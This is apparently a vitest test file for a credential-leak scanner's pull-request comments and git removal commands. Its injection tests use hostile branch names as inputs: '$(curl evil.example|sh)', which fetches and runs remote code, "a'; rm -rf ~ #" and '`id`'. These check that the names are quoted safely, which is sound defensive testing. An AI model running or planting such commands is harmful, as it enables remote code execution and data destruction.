import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderPullComment, worthComment } from '../../src/report/pull-comment.ts';
import { removalSteps } from '../../src/report/pull-history.ts';
import { readPullMarker } from '../../src/report/pull-marker.ts';
import { shellQuote } from '../../src/report/shell-quote.ts';
import { anyText, finding, HOSTILE, location } from './sample-report.ts';

const head = 'abcdef0123456789abcdef0123456789abcdef01';
const options = { namesPlaces: true, cloneUrl: 'https://github.com/acme/app.git', baseRef: 'main' };
const render = (findings = [finding()], more: Partial<typeof options> = {}): string =>
  renderPullComment({ findings, complete: true, head }, { ...options, ...more });

describe('the text of a comment on a pull request', () => {
  it('says what, where, what to do first, how to take it out, and how to say that it is none', () => {
    const text = render([
      finding({ links: ['https://docs.example.com/revoke'], locations: [location({ path: 'deploy/.env' })] }),
    ]);

    for (const part of [
      'AWS access key with its secret · critical',
      '`deploy/.env:3:9`',
      'Change it first',
      'Rotate the key',
      '<https://docs.example.com/revoke>',
      'git fetch https://github.com/acme/app.git refs/heads/main',
      'git push --force-with-lease',
      '`rekey:ignore`',
      'fingerprint: abcdefgh234567ab',
    ])
      expect(text).toContain(part);
    expect(text.indexOf('Change it first')).toBeLessThan(text.indexOf('git fetch'));
    expect(readPullMarker(text)?.state).toBe('open');
  });

  it('names no place on a public repository', () => {
    const place = location({ path: 'deploy/very-telling.env', startLine: 4711, commit: 'c'.repeat(40) });
    const text = render([finding({ locations: [place] })], { namesPlaces: false });

    for (const part of ['very-telling', '4711', 'cccc']) expect(text).not.toContain(part);
    expect(text).toContain('Files changed');
  });

  it('says whether it works, and on a public repository not even that', () => {
    const live = [finding({ verification: { result: 'live', detail: 'Its provider says so.' } })];

    expect(render(live)).toContain('Asked whether it works');
    expect(render(live, { namesPlaces: false })).not.toContain('works');
  });

  it('is not written for what stood there before, what is accepted and what looks like an example', () => {
    const quiet = [
      finding({ state: 'known' }),
      finding({ state: 'suppressed' }),
      finding({ confidence: 'placeholder' }),
    ];

    expect(worthComment(quiet)).toEqual([]);
    expect(worthComment([...quiet, finding({ confidence: 'generic' })])).toHaveLength(1);
  });

  it('fits, however much there is to say, and counts what it leaves out', () => {
    const many = Array.from({ length: 500 }, (_, index) =>
      finding({ locations: [location({ path: `${'x'.repeat(3_000)}${index}` })] }),
    );
    const text = render(many);

    expect(text.length).toBeLessThan(65_536);
    expect(text).toMatch(/And \d+ more credentials/);
  });

  it('makes nothing of what a change is called: no mention, link, tag, reference or second marker', () => {
    fc.assert(
      fc.property(
        fc.array(anyText, { minLength: 3, maxLength: 3 }),
        ([path = '', title = '', remedy = '']) => {
          const text = render([finding({ title, remedy: [remedy], locations: [location({ path })] })]);
          const prose = withoutCode(text);

          expect(prose).not.toMatch(/@octocat|<script|<img|\]\(https:\/\/evil|(?<![\\\w])#1\b/);
          expect(prose.match(/<!-- rekey:/g)).toHaveLength(1);
          expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);
        },
      ),
      { seed: 1, numRuns: 200 },
    );
  });

  it('is the same for the same result, and another for another commit', () => {
    const again = renderPullComment({ findings: [finding()], complete: true, head: 'f'.repeat(40) }, options);

    expect(render()).toBe(render());
    expect(readPullMarker(again)?.hash).not.toBe(readPullMarker(render())?.hash);
  });
});

describe('the commands to take it out', () => {
  it.each([
    ['$(curl evil.example|sh)', "'refs/heads/$(curl evil.example|sh)'"],
    ["a'; rm -rf ~ #", "'refs/heads/a'\\''; rm -rf ~ #'"],
    ['`id`', "'refs/heads/`id`'"],
    ['release/1.x', 'refs/heads/release/1.x'],
  ])('do not run what the base branch is called: %s', (baseRef, quoted) => {
    expect(removalSteps([location()], { ...options, baseRef })).toContain(`app.git ${quoted}\n`);
  });

  it('quote as one word whatever it is, as a shell reads it', () => {
    const script = `printf '%s\\0' ${HOSTILE.map(shellQuote).join(' ')}`;

    expect(execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1)).toEqual(
      HOSTILE,
    );
  });

  it.each([
    ['(pull request title)', 'edit them'],
    ['(branch name)', 'push it under another name'],
    ['(commit message)', 'git reset --soft'],
  ])('say what to do with a %s', (path, what) => {
    expect(removalSteps([location({ path })], options)).toContain(what);
  });

  it('say nothing of commits when there is nothing in them', () => {
    expect(removalSteps([location({ path: '(pull request body)' })], options)).not.toContain('git ');
  });
});

/** Without code and escaped characters, as they come from left to right: GitHub makes nothing of what is in them. */
function withoutCode(text: string): string {
  return text
    .replaceAll(/^```[\s\S]*?^```$/gm, '')
    .replaceAll(/\\[!-/:-@[-`{-~]|(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '')
    .replaceAll(/<https:\/\/[\w./~%#?=&+-]+>/g, '');
}
